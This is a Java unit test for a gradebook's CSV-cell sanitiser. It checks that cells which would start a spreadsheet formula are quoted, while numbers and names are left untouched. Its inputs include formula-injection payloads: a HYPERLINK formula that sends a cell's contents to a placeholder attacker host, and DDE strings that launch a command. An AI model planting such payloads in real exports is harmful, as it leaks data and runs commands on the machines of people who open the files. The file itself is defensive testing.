package backpropgrader.kernel;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Arrays;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

/** OWASP's rule for CSV cells: a cell that would start a formula is quoted; numbers and ordinary text are not. */
class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1", "-", "+", "@", "-x",
        "--1", "-1-1", "+1.2.3", "-1e5+1"})
    void aCellThatWouldStartAFormulaGetsAQuoteInFront(String cell) {
        if (cell.equals("-")) {
            assertEquals("-", SpreadsheetCells.safe(cell), "Moodle's 'no grade' stays");
            return;
        }
        assertEquals("'" + cell, SpreadsheetCells.safe(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1.744", "+2", "-1,744", "1.2e-3", "-0.38854778682407276", "17.5", "100.0", "-.5",
        "Participant 101", "s1234", "Ada Lovelace", "−1.744", " =not at the start", "'=already quoted", "",
        "Assignment: Backprop (Real)", "<p>Score 17.5/20</p>", "a=b"})
    void numbersIdsAndOrdinaryTextStayExactlyAsTheyAre(String cell) {
        assertEquals(cell, SpreadsheetCells.safe(cell));
    }

    @Test
    void aRowIsMadeSafeCellByCellAndNullStaysNull() {
        assertNull(SpreadsheetCells.safe((String) null));
        assertEquals(Arrays.asList("s1", "'=1+1", null, "-1.5"),
                SpreadsheetCells.safe(Arrays.asList("s1", "=1+1", null, "-1.5")));
        assertEquals(List.of(), SpreadsheetCells.safe(List.of()));
    }
}
